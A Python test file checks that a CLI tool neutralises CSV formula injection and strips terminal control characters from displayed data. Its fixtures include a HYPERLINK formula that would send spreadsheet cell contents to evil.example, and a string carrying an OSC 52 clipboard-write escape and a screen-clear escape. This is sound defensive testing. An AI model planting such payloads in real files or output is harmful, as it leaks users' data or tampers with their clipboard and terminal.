"""Nothing from facts or standards is run: not by a spreadsheet (CSV cells), not by the
terminal (control characters) (issue 20: "injection")."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from starrules._cli.console import clean_json, clean_text, make_console
from starrules._tabular import FORMULA_STARTS, csv_text, safe_cell

from ._support import example, no_traceback, write_jsonl

HOSTILE = "支部\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J\x9b31m\x07end"


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text


def test_numbers_stay_numbers_and_rows_read_back() -> None:
    assert safe_cell(-3) == -3 and safe_cell("3") == "3"
    rows = list(csv.reader(io.StringIO(csv_text([["=1+1", "@SUM(A1)", "-2", "+x", "\tx", "\rx", "ok", 5]]))))
    assert rows == [["'=1+1", "'@SUM(A1)", "'-2", "'+x", "'\tx", "'\rx", "ok", "5"]]


def test_summary_csv_neutralises_a_hostile_unit(tmp_path: Path, run_cli: Any) -> None:
    doc = example("three-star-branch")
    doc["branch"]["unit"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    inp = write_jsonl(tmp_path / "in.jsonl", [doc])
    csv_path = tmp_path / "s.csv"
    res = run_cli("batch", inp, "-s", "prov-2023", "-o", tmp_path / "out.jsonl", "--summary-csv", csv_path)
    no_traceback(res)
    assert res.exit_code == 0, res.output
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    units = [r[0] for r in rows[1:]]
    assert "'" + doc["branch"]["unit"] in units
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_control_characters_are_shown_not_sent() -> None:
    assert clean_text("a\x1b[2Jb\tc\nd\x9b") == "a\\x1b[2Jb\tc\nd\\x9b"
    assert json.loads(clean_json(json.dumps({"x": "\x9b\x85"}, ensure_ascii=False))) == {"x": "\x9b\x85"}
    assert "\x9b" not in clean_json(json.dumps("\x9b", ensure_ascii=False))


def test_the_console_keeps_its_own_styles_but_not_the_datas(capsys: Any) -> None:
    from rich.text import Text

    console = make_console()
    console.print(Text(HOSTILE, style="bold"))
    out = capsys.readouterr().out
    assert "\x1b]52" not in out and "\x07" not in out and "\x9b" not in out and "\x1b[2J" not in out
    assert "\\x1b]52;c;ZWNobyBoaQ==" in out and out.count("支部") == 1


def test_no_control_character_from_facts_reaches_the_terminal(tmp_path: Path, run_cli: Any) -> None:
    doc = example("three-star-branch")
    doc["branch"]["name"] = HOSTILE
    doc["branch"]["unit"] = HOSTILE
    facts = tmp_path / "f.json"
    facts.write_text(json.dumps(doc, ensure_ascii=False, default=str), encoding="utf-8")
    runs = [("evaluate", facts, "-s", "prov-2023"), ("evaluate", facts, "-s", "prov-2023", "--format", "json"),
            ("explain", facts, "-s", "prov-2023"), ("next-star", facts, "-s", "prov-2023"),
            ("report", facts, "-s", "prov-2023"),
            ("batch", write_jsonl(tmp_path / "in.jsonl", [doc, {"branch": {"id": HOSTILE}}]), "-s", "prov-2023",
             "-o", tmp_path / "out.jsonl")]
    for args in runs:
        res = run_cli(*args)
        no_traceback(res)
        for stream in (res.stdout, res.stderr):
            assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream, args
    first = json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first["result"]["branch"]["name"] == HOSTILE  # the data itself is kept
